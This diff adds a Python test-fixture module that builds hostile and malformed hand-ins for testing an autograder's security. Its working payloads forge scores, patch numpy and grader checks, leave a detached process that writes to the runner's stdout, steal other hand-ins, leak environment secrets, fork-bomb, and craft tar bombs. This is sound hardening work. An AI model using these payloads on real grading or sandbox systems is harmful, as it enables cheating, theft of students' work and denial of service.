@@ -1,0 +1,244 @@
+"""Hostile and malformed hand-ins, built in a folder: what the grader must withstand.
+
+Used by ``tests/test_grader_security.py`` and ``scripts/bench_grader_batch.py``. Each hostile
+hand-in is MyTorch's own ``mytorch`` (or a copy with a wrong-sign ``mul_backward``, or only an
+``__init__.py``) with attack code appended to its ``__init__.py``, which runs when a worker
+imports it. Every payload is bounded: a few forks, a few MiB of output, one allocation over a
+low memory cap, background processes that sleep before acting.
+"""
+
+from __future__ import annotations
+
+import io
+import shutil
+import tarfile
+from pathlib import Path
+
+from autograder.mutants import WRONG_SIGN, broken_copy
+
+ROOT = Path(__file__).resolve().parents[1]
+
+MARK = "31.4159"
+"""What a hand-in's background processes are called (``sleep 31.4159``): found afterwards, they
+survived."""
+TOKEN = "grader-token-5d1c9e"
+"""A secret in the runner's environment: no report may show it."""
+SECRET = "VICTIM-SECRET-4242"
+"""Text inside another student's hand-in: no other report may show it."""
+FAKE = '{"scores": {"operations": 999}}'
+"""The forged Autolab line: it may appear in a report only as the quoted output of a test."""
+
+
+# --------------------------------------------------------------------------- building hand-ins
+def package(folder: Path, code: str = "", wrong_mul: bool = False, bare: bool = False) -> Path:
+    """``folder/mytorch``: MyTorch's own (or with a wrong-sign ``mul_backward``, or only an
+    ``__init__.py``), with ``code`` appended to its ``__init__.py`` (run when it is imported)."""
+    if bare:
+        (folder / "mytorch").mkdir(parents=True)
+        (folder / "mytorch" / "__init__.py").write_text(code)
+        return folder
+    if wrong_mul:
+        broken_copy(ROOT, folder, "mul_backward", WRONG_SIGN)
+    else:
+        shutil.copytree(ROOT / "mytorch", folder / "mytorch", ignore=shutil.ignore_patterns("__pycache__"))
+    init = folder / "mytorch" / "__init__.py"
+    init.write_text(init.read_text() + "\n" + code)
+    return folder
+
+
+def tar_of(folder: Path, archive: Path, mode: str = "w") -> Path:
+    with tarfile.open(archive, mode) as tar:
+        tar.add(folder / "mytorch", arcname="mytorch", filter=lambda m: None if "__pycache__" in m.name else m)
+    return archive
+
+
+def handin(tmp: Path, inbox: Path, name: str, **options) -> Path:
+    """``inbox/name``: the hand-in ``package(tmp / ..., **options)`` as a tar (gzipped for .gz)."""
+    mode = "w:gz" if name.endswith(".gz") else "w"
+    return tar_of(package(tmp / f"src-{name}", **options), inbox / name, mode)
+
+
+def forger(targets: list[str]) -> str:
+    """No implementation at all: it prints a fake Autolab line, writes fake scores wherever it
+    can, hunts the worker's result pipe in its callers' frames and sends a forged result
+    (zeros, and an object array that would need pickle), then exits."""
+    return f'''
+import io, json, os, struct, sys
+import numpy as np
+print({FAKE!r}, flush=True)
+for path in {targets!r}:
+    try:
+        with open(path, "a") as out:
+            out.write({FAKE!r} + "\\n")
+    except OSError:
+        pass
+frame, fd = sys._getframe(), None
+while frame is not None and fd is None:
+    config = frame.f_locals.get("config")
+    if isinstance(config, dict) and "result_fd" in config:
+        fd = config["result_fd"]
+    frame = frame.f_back
+if fd is not None:
+    buffer = io.BytesIO()
+    np.savez(buffer, **{{"gradient of input 0": np.zeros((3, 4)), "gradient of input 1": np.zeros((3, 4)),
+                        "verdict": np.array([{{"passed": True}}], dtype=object)}})
+    payload = buffer.getvalue()
+    os.write(fd, b"R" + b"D" + struct.pack(">Q", len(payload)) + payload)
+    os._exit(0)
+'''
+
+
+PATCHER = '''
+import inspect, sys
+import numpy
+numpy.abs = lambda x, *args, **kwargs: numpy.zeros_like(x)
+numpy.allclose = lambda *args, **kwargs: True
+numpy.testing.assert_allclose = lambda *args, **kwargs: None
+for name, module in list(sys.modules.items()):
+    if name.startswith("autograder"):
+        for attribute in ("assert_close", "judge", "_assert_equal", "decode_arrays"):
+            if hasattr(module, attribute):
+                setattr(module, attribute, lambda *args, **kwargs: None)
+for info in inspect.stack():
+    found = [k for k in info.frame.f_locals if k in ("expected", "want", "reference")]
+    if found:
+        print("FOUND REFERENCE", found)
+'''
+"""Replaces the comparison helpers, numpy.abs and friends, and looks for the expected arrays
+in its callers' frames; with a wrong-sign mul_backward."""
+
+
+def survivor(targets: list[str]) -> str:
+    """Double-forks a ``setsid`` process that waits, then appends fake scores to the reports and
+    to the runner's own stdout (through /proc), and stays alive as ``sleep 31.4159``."""
+    return f'''
+import glob, os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        try:
+            time.sleep(1.5)
+            for path in {targets!r}:
+                try:
+                    with open(path, "a") as out:
+                        out.write({FAKE!r} + "\\n")
+                except OSError:
+                    pass
+            for stdout in glob.glob("/proc/[0-9]*/fd/1"):
+                try:
+                    with open(os.path.join(os.path.dirname(os.path.dirname(stdout)), "cmdline"), "rb") as f:
+                        if b"runner.py" in f.read():
+                            with open(stdout, "w") as out:
+                                out.write({FAKE!r} + "\\n")
+                except OSError:
+                    pass
+            os.execv("/bin/sleep", ["sleep", {MARK!r}])
+        finally:
+            os._exit(0)
+    os._exit(0)
+'''
+
+
+def snooper(grader: Path, inbox: Path, port: int) -> str:
+    """Reads other hand-ins (the archives and anything extracted), tries the network, and
+    appends a no-op comparison to the grader's own files."""
+    return f'''
+import glob, os, socket
+stolen = b""
+for pattern in [{str(inbox)!r} + "/*", "/tmp/mytorch-*/**/*"]:
+    for path in glob.glob(pattern, recursive=True)[:200]:
+        try:
+            with open(path, "rb") as f:
+                stolen += f.read(100000)
+        except OSError:
+            pass
+print("STOLEN", stolen[-3000:])
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=0.5).sendall(b"STOLEN")
+except OSError as error:
+    print("no network:", error)
+for path in [{str(grader / "autograder" / "checks.py")!r}, {str(grader / "autograder" / "grading.py")!r}]:
+    try:
+        with open(path, "a") as out:
+            out.write("\\ndef assert_close(*args, **kwargs):\\n    return None\\n")
+    except OSError:
+        pass
+'''
+
+
+ENVLEAK = "import os\nraise ImportError('environment: ' + repr(dict(os.environ)))\n"
+FLOOD = "import sys\nfor _ in range(8):\n    sys.stdout.write('x' * 2**20)\nraise ImportError('flooded')\n"
+FORKER = f'''
+def _greedy_mul(grad_output, a, b):
+    import os
+    import numpy as np
+    try:
+        np.ones(100 * 2**20)
+        notes = "allocated 800 MB"
+    except MemoryError:
+        notes = "allocation refused"
+    children = 0
+    for _ in range(12):
+        try:
+            pid = os.fork()
+        except OSError:
+            break
+        if pid == 0:
+            os.execv("/bin/sleep", ["sleep", {MARK!r}])
+        children += 1
+    raise RuntimeError(f"{{notes}}; forked {{children}}")
+
+
+from mytorch.nn import functional as _functional
+_functional.mul_backward = _greedy_mul
+'''
+"""Allocates 800 MB (over ``--memory 400``) and forks up to 12 sleepers (``--max-procs 4``)."""
+HANG = "while True:\n    pass\n"
+
+
+def _member(tar: tarfile.TarFile, name: str, data: bytes = b"x = 1\n") -> None:
+    info = tarfile.TarInfo(name)
+    info.size = len(data)
+    tar.addfile(info, io.BytesIO(data))
+
+
+def malformed(inbox: Path) -> dict[str, str]:
+    """Archives that must be refused, and a fragment of each one's reason."""
+    with tarfile.open(inbox / "long-component.tar", "w", format=tarfile.PAX_FORMAT) as tar:
+        _member(tar, "mytorch/__init__.py")
+        _member(tar, "mytorch/" + "a" * 300 + ".py")
+    with tarfile.open(inbox / "long-path.tar", "w", format=tarfile.GNU_FORMAT) as tar:
+        _member(tar, "mytorch/__init__.py")
+        _member(tar, "mytorch/" + "/".join(["d" * 200] * 25) + "/x.py")
+    with tarfile.open(inbox / "file-and-folder.tar", "w") as tar:
+        _member(tar, "mytorch")
+        _member(tar, "mytorch/__init__.py")
+    whole = io.BytesIO()
+    with tarfile.open(fileobj=whole, mode="w:gz") as tar:
+        for i in range(40):
+            _member(tar, f"mytorch/m{i}.py", bytes(range(256)) * 40)
+    (inbox / "truncated.tar.gz").write_bytes(whole.getvalue()[: len(whole.getvalue()) // 2])
+    header = tarfile.TarInfo("././@LongLink")
+    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 8 * 2**30  # claims 8 GiB, holds 9 KB
+    (inbox / "header-bomb.tar").write_bytes(header.tobuf(format=tarfile.GNU_FORMAT)[:512] + b"a" * 9000)
+    with tarfile.open(inbox / "pax-bomb.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as tar:
+        _member(tar, "mytorch/" + "b" * 1_500_000 + ".py")  # a 1.5 MB pax header, compressed to ~2 KB
+    with tarfile.open(inbox / "zeros.tar.gz", "w:gz") as tar:
+        _member(tar, "mytorch/__init__.py", bytes(15 * 2**20))
+    with tarfile.open(inbox / "many.tar", "w") as tar:
+        for i in range(2001):
+            _member(tar, f"mytorch/m{i}.py", b"")
+    (inbox / "empty.tar").write_bytes(b"")
+    (inbox / "junk.tgz").write_bytes(b"not an archive at all")
+    return {
+        "long-component.tar": "name component over 255 bytes",
+        "long-path.tar": "path over 4096 bytes",
+        "file-and-folder.tar": "collides with an earlier member",
+        "truncated.tar.gz": "not a readable tar archive",
+        "header-bomb.tar": "long-name header of 8589934592 bytes",
+        "pax-bomb.tar.gz": "long-name header of 1500",
+        "zeros.tar.gz": "expands more than 200 times",
+        "many.tar": "more than 2000 members",
+        "empty.tar": "not a readable tar archive",
+        "junk.tgz": "not a readable tar archive",
+    }
